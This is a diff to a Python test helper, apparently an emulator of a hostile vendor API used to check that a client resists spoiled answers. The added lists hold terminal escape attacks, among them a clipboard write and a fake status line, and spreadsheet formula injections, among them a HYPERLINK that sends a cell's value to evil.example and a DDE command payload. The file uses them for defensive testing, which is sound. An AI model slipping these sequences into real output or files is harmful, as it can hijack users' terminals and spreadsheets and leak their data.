@@ -15,6 +15,12 @@ r"""A hostile vendor: any vendor's emulator, with its answers spoiled the way re
   ``secrets`` given) written back in every escaped form of :func:`escaped_forms`, in an error body
   with a given status, in a response header, or inside 200 data (the records' region-like fields and
   the purchase answers' text fields);
+- vendor text that is control or formula: ``inject`` written at the start of the records' region-like
+  text fields, of their ids (``inject_ids``) and of an error answer's messages (an OSC 52 clipboard
+  write, a clear-screen, ``\r`` and erase-line, ``=HYPERLINK(…)``: see :data:`TERMINAL_ATTACKS` and
+  :data:`FORMULAS`);
+- a junk page: the records' list replaced by ``junk_bytes`` of ``1,1,1,…`` or ``{},{},…`` (a vendor whose
+  page is millions of items no record could be made of).
 - anything else, written by the test: ``Defects(rewrite=...)`` is given each decoded search answer (its
   records found with :func:`find_records`) and may change it in place or return another body, in which
   :class:`Raw` writes JSON text as is and :class:`Pairs` an object with a repeated key;
@@ -46,7 +52,7 @@ import re
 from collections.abc import Callable, Iterable, Iterator, Mapping, MutableMapping, Sequence
 from dataclasses import dataclass, field
 from decimal import Decimal
-from typing import TYPE_CHECKING, Any, Final, Literal
+from typing import TYPE_CHECKING, Any, Final, Literal, get_args
 from urllib.parse import parse_qsl, quote, quote_plus, urlencode
 
 if TYPE_CHECKING:
@@ -55,7 +61,9 @@ if TYPE_CHECKING:
 __all__ = [
     "ESCAPINGS",
     "HUGE_EXPONENT",
+    "FORMULAS",
     "HUGE_TOTAL",
+    "TERMINAL_ATTACKS",
     "TINY_EXPONENT",
     "Defects",
     "HostileVendor",
@@ -74,11 +82,19 @@ TINY_EXPONENT: Final = "1e-999999999"
 """A 13-byte price whose exact decimal expansion has a billion digits."""
 HUGE_TOTAL: Final = "1" + "0" * 400
 """A page total of 10^400."""
+TERMINAL_ATTACKS: Final = (
+    "\x1b]52;c;ZWNobyBvd25lZA==\x07",  # OSC 52: write the clipboard
+    "\x1b[2J\x1b[H",  # clear the screen
+    "\x1b]0;fake title\x07",  # set the window title
+    "\r\x1b[2Kvobiz: ok (10 offers)",  # overwrite the line with a fake one
+    "\x9b31m\x9d8;;http://evil.example\x9c",  # C1 CSI and OSC (a hyperlink)
+    "\x08\x08\x7f\u202etxt.exe",  # backspaces, DEL, a right-to-left override
+)
+"""Vendor text that drives a terminal if written raw."""
+FORMULAS: Final = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
+"""Vendor text a spreadsheet evaluates if a CSV cell begins with it."""
 
 Escaping = Literal[
-    "raw", "json", "json_php", "json_unicode", "json_mixed", "json_twice", "url", "url_plus", "url_twice", "html"
-]
-ESCAPINGS: Final[tuple[Escaping, ...]] = (
     "raw",
     "json",
     "json_php",
@@ -89,7 +105,18 @@ ESCAPINGS: Final[tuple[Escaping, ...]] = (
     "url_plus",
     "url_twice",
     "html",
-)
+    "plus_space",
+    "lower",
+    "upper",
+    "fullwidth",
+    "zero_width",
+    "prefix",
+    "suffix",
+    "hex",
+    "base64",
+    "base32",
+]
+ESCAPINGS: Final[tuple[Escaping, ...]] = get_args(Escaping)
 """Every escaped form :func:`escaped_forms` writes a secret in."""
 
 _PRICE_KEY = re.compile(r"price|fee|rate|cost|amount|charge", re.IGNORECASE)
@@ -98,6 +125,7 @@ _TOTAL_KEYS = frozenset({"total", "total_count", "totalCount", "count", "total_i
 _PAGE_SIZE_PARAMS = ("per_page", "limit", "page_size", "pageSize", "size")
 _TEXT_KEY = re.compile(r"region|city|locality|state|province|rate_center|alias|message|description", re.I)
 _AUTH_HEADER = re.compile(r"authorization|auth|token|key|secret|signature", re.IGNORECASE)
+_ID_KEY = re.compile(r"^id$|_id$|[a-z]Id$")
 _NUMERIC = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 
 
@@ -106,10 +134,16 @@ def escaped_forms(secret: str) -> dict[Escaping, str]:
 
     The ``json*`` forms are the text inside a JSON string literal (``json_php`` escapes ``/`` as PHP
     does by default, ``json_unicode`` escapes every character as ``\uXXXX``, ``json_mixed`` every other
-    one, ``json_twice`` is JSON-escaped inside JSON); the others are text a JSON string may hold as is.
+    one, ``json_twice`` is JSON-escaped inside JSON); the others are text a JSON string may hold as is:
+    ``plus_space`` (``+`` shown as a space, as a form-decoding vendor echoes it), ``lower``/``upper``,
+    ``fullwidth`` (NFKC-equal), ``zero_width`` (a zero-width joiner between characters), ``prefix`` and
+    ``suffix`` (the shortest three quarters of the secret, as in ``key tokCANA…``), and ``hex``,
+    ``base64``, ``base32`` of the secret alone (unpadded).
     """
     json_text = json.dumps(secret)[1:-1]
     units = json.dumps(secret, ensure_ascii=True)[1:-1]
+    raw = secret.encode("utf-8")
+    part = -(-len(secret) * 3 // 4)
 
     def unicode_escape(char: str) -> str:
         return f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else json.dumps(char)[1:-1]  # a surrogate pair
@@ -125,6 +159,16 @@ def escaped_forms(secret: str) -> dict[Escaping, str]:
         "url_plus": quote_plus(secret),
         "url_twice": quote(quote(secret, safe=""), safe=""),
         "html": "".join(f"&#x{ord(c):x};" for c in secret),
+        "plus_space": secret.replace("+", " "),
+        "lower": secret.lower(),
+        "upper": secret.upper(),
+        "fullwidth": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in secret),
+        "zero_width": "\u200d".join(secret),
+        "prefix": secret[:part],
+        "suffix": secret[-part:],
+        "hex": raw.hex(),
+        "base64": base64.b64encode(raw).decode().rstrip("="),
+        "base32": base64.b32encode(raw).decode().rstrip("="),
     }
 
 
@@ -154,6 +198,12 @@ class Defects:
         escapings: the forms of :func:`escaped_forms` written.
         secrets: more strings to echo beside those the client sent.
         reencode: decode and re-encode every JSON answer, spoiling nothing (a baseline with the same cost).
+        junk: replace every page's records with ``junk_bytes`` of ``1`` items (``"ones"``) or ``{}`` items
+            (``"objects"``).
+        junk_bytes: about how many bytes of junk items a page holds.
+        inject: text written at the start of every record's region-like fields and of an error answer's
+            messages (``echo_status``).
+        inject_ids: write ``inject`` at the start of every record's id fields (``id``, ``*_id``, ``*Id``) too.
         rewrite: a defect of the test's own, given each decoded 2xx answer to a GET that holds records (a
             search page, or an owned-number list: see :func:`find_records`) after the defects above, with the
             query parameters the client sent; numbers in it are :class:`Raw` (exact as served).
@@ -174,6 +224,10 @@ class Defects:
     escapings: Sequence[Escaping] = ESCAPINGS
     secrets: Sequence[str] = ()
     reencode: bool = False
+    junk: Literal["ones", "objects"] | None = None
+    junk_bytes: int = 1024 * 1024
+    inject: str | None = None
+    inject_ids: bool = False
     rewrite: Rewrite | None = None
     query: QueryRewrite | None = None
 
@@ -198,6 +252,8 @@ class Defects:
             or self.duplicate_keys
             or self.echo_in_data
             or self.reencode
+            or self.junk
+            or self.inject
             or self.rewrite
         )
 
@@ -255,6 +311,19 @@ def find_records(body: Any) -> list[Any] | None:
                 best = node
             stack.extend(node)
     return best
+
+
+def _replace(body: Any, old: list[Any], new: Any) -> None:
+    """Put ``new`` where the list ``old`` (the very object) sits in ``body``."""
+    stack = [body]
+    while stack:
+        node = stack.pop()
+        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
+        for key, value in list(items):
+            if value is old:
+                node[key] = new
+                return
+            stack.append(value)
 
 
 def credentials_sent(headers: Iterable[tuple[str, str]]) -> list[str]:
@@ -411,6 +480,8 @@ class HostileVendor:
 
     def _echo_body(self, secrets: Sequence[str]) -> bytes:
         echo = self._echo_strings(secrets)
+        if self.defects.inject is not None:
+            echo = Raw(json.dumps(self.defects.inject, ensure_ascii=False)[1:-1] + echo.text, string=True)
         envelope = {
             "status": "error",
             "error": {"code": "ECHO", "message": echo},
@@ -425,7 +496,12 @@ class HostileVendor:
     ) -> str:
         defects = self.defects
         records = find_records(body)
-        if records is not None and method == "GET":
+        if records is not None and method == "GET" and defects.junk is not None:
+            item = "1" if defects.junk == "ones" else "{}"
+            junk = Raw("[" + ",".join([item] * max(1, defects.junk_bytes // (len(item) + 1))) + "]")
+            _replace(body, records, junk)
+            records = None
+        elif records is not None and method == "GET":
             if defects.page_size is not None:
                 del records[defects.page_size :]
             for index in range(len(records) if defects.records == "all" else min(1, len(records))):
@@ -450,6 +526,15 @@ class HostileVendor:
                 value = _number_text(value, defects.exponent)
             elif defects.echo_in_data and isinstance(value, str) and _TEXT_KEY.search(key):
                 value = Raw(json.dumps(value, ensure_ascii=False)[1:-1] + " " + self._echo_strings(secrets).text, True)
+            if defects.inject is not None and isinstance(value, str) and _TEXT_KEY.search(key):
+                value = defects.inject + value
+            elif (
+                defects.inject is not None
+                and defects.inject_ids
+                and isinstance(value, str | int)
+                and _ID_KEY.search(key)
+            ):
+                value = f"{defects.inject}{value}"
             out[key] = value
         if not defects.duplicate_keys:
             return out
